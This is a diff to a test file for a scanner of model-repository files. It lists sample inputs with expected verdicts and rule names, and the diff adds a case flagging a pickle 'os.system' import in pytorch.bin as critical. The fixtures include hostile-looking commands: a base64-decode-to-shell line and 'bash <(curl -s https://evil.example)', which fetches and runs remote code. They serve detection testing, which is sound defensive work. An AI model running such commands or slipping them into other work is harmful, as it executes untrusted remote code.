@@ -133,7 +133,8 @@ describe('other files beside weights', () => {
     ['README.md', 'echo aGk= | base64 -d | sh', 'REVIEW', 'TXT-FETCH-RUN medium'],
     ['README.md', 'bash <(curl -s https://evil.example)', 'REVIEW', 'TXT-FETCH-RUN medium'],
     ['notes.txt', `token hf_${'aB'.repeat(17)}`, 'CLEAN', 'TXT-SECRET low'],
-    ['model.bin', 'cos\nsystem\n', 'NOT_SCANNED', 'COV-UNATTRIBUTED low'],
+    ['model.bin', 'cat\ndog\n', 'NOT_SCANNED', 'COV-UNATTRIBUTED low'],
+    ['pytorch.bin', 'cos\nsystem\n', 'ERROR', 'PKL-IMPORT-DENY critical'],
     ['x.txt', Buffer.from('a\0b'), 'NOT_SCANNED', 'COV-UNATTRIBUTED low'],
     ['model.gguf', 'version https://git-lfs', 'REVIEW', 'TYPE-MISMATCH medium'],
   ])('%s: %s', async (name, content, verdict, rule) => {
